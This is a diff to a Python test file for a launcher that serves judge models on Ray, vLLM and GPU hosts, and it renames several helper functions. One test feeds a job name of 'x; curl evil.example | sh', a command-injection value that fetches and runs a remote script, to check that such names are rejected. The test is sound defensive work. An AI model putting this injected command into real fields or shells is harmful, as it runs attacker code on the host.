@@ -15,16 +15,7 @@ from launcher.core.errors import UnreadableAnswer
 from launcher.hosts import pairs
 from launcher.hosts.discovery import local_assets
 from launcher.network import network_plan
-from launcher.tools import (
-    docker_read,
-    gpu_survey,
-    head_answer,
-    host_read,
-    ray,
-    running,
-    serving_judges,
-    vllm,
-)
+from launcher.tools import docker_read, gpu_survey, host_read, ray, ray_judges, serving_judges, vllm
 from launcher.tools.ray_judges import read_payload
 from tests import kept
 from tests.hostile import seeds
@@ -110,7 +101,7 @@ def test_a_name_that_is_a_command() -> None:
         "batch-1", {serving_judges.NAME: "x; curl evil.example | sh", serving_judges.GPUS: "1"}
     )
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
-    assert running.holders(kept.said(row)) == []
+    assert serving_judges.holders(kept.said(row)) == []
     assert serving_judges.job_holders({"jobs": [job]}) == []
     assert serving_judges.batches({"jobs": [job]}) == []
 
@@ -169,9 +160,9 @@ def test_spaces_without_end() -> None:
 
 def test_fields_that_are_known_have_a_kind() -> None:
     """And what is not known is left to who asked for it."""
-    head_answer.check({"servers": 5, "new": []}, "it")
+    ray_judges.check_fields({"servers": 5, "new": []}, "it")
     with pytest.raises(UnreadableAnswer, match="`offset`"):
-        head_answer.check({"offset": "200"}, "it")
+        ray_judges.check_fields({"offset": "200"}, "it")
 
 
 @pytest.mark.parametrize(
@@ -190,5 +181,5 @@ def test_a_head_that_leaves_out_what_others_take_for_granted(
 ) -> None:
     """A job in a list has a state, and a name."""
     with pytest.raises(UnreadableAnswer, match=field):
-        head_answer.check(said, "it")
-    head_answer.check({"job": {"status": None}, "jobs": []}, "it")
+        ray_judges.check_fields(said, "it")
+    ray_judges.check_fields({"job": {"status": None}, "jobs": []}, "it")
